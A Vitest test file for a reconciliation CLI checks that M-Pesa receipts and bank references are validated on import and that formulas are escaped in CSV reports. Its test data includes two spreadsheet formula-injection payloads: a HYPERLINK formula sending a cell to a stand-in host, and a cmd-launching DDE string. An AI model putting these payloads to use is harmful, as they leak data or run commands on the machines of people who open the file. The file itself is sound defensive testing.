import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openStore } from '../../src/store/connect.js'
import { DIALECTS, useStoreEnv } from '../helpers/dialects.js'
import { run, setUpBranches } from '../helpers/recon-env.js'

/**
 * Receipts and references are checked where they enter (issue 22, item 3): an M-Pesa receipt is
 * ten capital letters or digits (a profile may say otherwise with `receiptPattern`), nothing
 * over 64 characters, refused with file:line:column and exit 3, nothing imported. What does get
 * in (a bank reference that looks like a formula) comes out of the CSV report guarded.
 */

const FIX = fileURLToPath(new URL('../../fixtures/statements/', import.meta.url))
const MPESA = readFileSync(`${FIX}mpesa.csv`, 'utf8')
/** The M-Pesa fixture with the receipt of its first data row (file line 6) replaced. */
const mpesaWith = (receipt: string) => MPESA.replace('QKC1A2B3C9,', `${receipt},`)
const BANK_HEAD = 'Date,Value Date,Description,Reference,Debit,Credit,Balance'
const bankWith = (reference: string) =>
  `${BANK_HEAD}\n2026-11-03 09:15:22,2026-11-03,Deposit,${reference},,"1,234.56","11,234.56"\n2026-11-03 10:15:22,2026-11-03,Tea,T2,,1.00,"11,235.56"\n`

const HYPERLINK = '"=HYPERLINK(""http://x/?d=""&A1,""Open"")"'

async function countLines(db: string) {
  const store = await openStore(db)
  try {
    const r = await store.db
      .selectFrom('statement_lines')
      .select((eb) => eb.fn.countAll<number>().as('n'))
      .executeTakeFirstOrThrow()
    return Number(r.n)
  } finally {
    await store.close()
  }
}

describe.each(DIALECTS)('receipts checked on import ($name)', ({ name, enabled }) => {
  const s = useStoreEnv(name)
  const tmp = mkdtempSync(join(tmpdir(), 'dsh-receipts-'))
  afterAll(() => rmSync(tmp, { recursive: true, force: true }))
  beforeAll(async () => {
    if (enabled) await setUpBranches(s.env, ['westlands'])
  }, 60_000)
  const imp = (file: string, profile: string, code: number) =>
    run(s.env, ['reconcile', 'import', file, '--branch', 'westlands', '--profile', profile], code)

  const refused: [label: string, body: string, profile: string, message: string][] = [
    [
      'a formula as an M-Pesa receipt',
      mpesaWith(HYPERLINK),
      'mpesa',
      'formula.csv:6:1: receipt: "=HYPERLINK(\\"http://x/?d=\\"&A1,\\"Open\\")" is not a receipt (an M-Pesa receipt is 10 capital letters or digits)',
    ],
    [
      'a 5,000-character receipt',
      mpesaWith('Q'.repeat(5000)),
      'mpesa',
      'long.csv:6:1: receipt: 5000 characters, at most 64',
    ],
    [
      'a receipt in lower case',
      mpesaWith('qkc1a2b3c9'),
      'mpesa',
      'lower.csv:6:1: receipt: "qkc1a2b3c9" is not a receipt (an M-Pesa receipt is 10 capital letters or digits)',
    ],
    [
      'an 11-character receipt',
      mpesaWith('QKC1A2B3C9X'),
      'mpesa',
      'eleven.csv:6:1: receipt: "QKC1A2B3C9X" is not a receipt (an M-Pesa receipt is 10 capital letters or digits)',
    ],
    [
      'a 65-character bank reference',
      bankWith('R'.repeat(65)),
      'bank',
      'bank-long.csv:2:4: reference: 65 characters, at most 64',
    ],
  ]
  const files = ['formula.csv', 'long.csv', 'lower.csv', 'eleven.csv', 'bank-long.csv']

  it.runIf(enabled).each(refused.map((c, i) => [...c, files[i] as string] as const))(
    '%s is refused with file:line:column, exit 3, nothing imported',
    async (_label, body, profile, message, file) => {
      const path = join(tmp, file)
      writeFileSync(path, body)
      const before = await countLines(s.db)
      const r = await imp(path, profile, 3)
      expect(r.stderr).toContain(`dsh: ${path.replace(/[^/]*$/, '')}${message}`)
      expect(await countLines(s.db)).toBe(before)
    },
  )

  it.runIf(enabled)('a 64-character bank reference and a good receipt are imported', async () => {
    const bank = join(tmp, 'bank-64.csv')
    writeFileSync(bank, bankWith('R'.repeat(64)))
    expect((await imp(bank, 'bank', 0)).stdout).toContain('2 line(s)')
    const mpesa = join(tmp, 'mpesa.csv')
    writeFileSync(mpesa, MPESA)
    expect((await imp(mpesa, 'mpesa', 0)).stdout).toContain('6 line(s)')
  })

  it.runIf(enabled)('a profile’s receiptPattern replaces the M-Pesa rule', async () => {
    const profile = join(tmp, 'other-mpesa.json')
    writeFileSync(
      profile,
      JSON.stringify({ name: 'other-mpesa', extends: 'mpesa', receiptPattern: '[A-Z]{3}\\d{7}' }),
    )
    const good = join(tmp, 'other-good.csv')
    writeFileSync(good, mpesaWith('ABC1234567').replace(/QKC1A2B3C(\d)/g, 'QKC123456$1'))
    await imp(good, profile, 0)
    const bad = join(tmp, 'other-bad.csv')
    writeFileSync(bad, mpesaWith('ABC1234567'))
    const r = await imp(bad, profile, 3)
    expect(r.stderr).toContain(
      'other-bad.csv:7:1: receipt: "QKC1A2B3C8" is not a receipt (expected ^(?:[A-Z]{3}\\d{7})$)',
    )
  })

  it.runIf(enabled)(
    'a formula in a bank reference is imported and comes out of the CSV report guarded',
    async () => {
      const path = join(tmp, 'bank-formula.csv')
      writeFileSync(path, bankWith('"@SUM(1+1)*cmd|\' /C calc\'!A0"'))
      await imp(path, 'bank', 0)
      const recon = await run(
        s.env,
        [
          'reconcile',
          'run',
          '--branch',
          'westlands',
          '--from',
          '2026-11-03',
          '--to',
          '2026-11-03',
          '--json',
        ],
        8,
      )
      const runId = recon.json<{ runId: string }>().runId
      const csv = await run(s.env, ['reconcile', 'report', runId, '--format', 'csv'])
      const rows: Record<string, string>[] = parse(csv.stdout, { columns: true })
      const hostile = rows.find((r) => r['reference']?.includes('SUM'))
      expect(hostile?.['reference']).toBe("'@SUM(1+1)*cmd|' /C calc'!A0")
      expect(hostile?.['category']).toBe('missing_in_dsh')
    },
  )
})
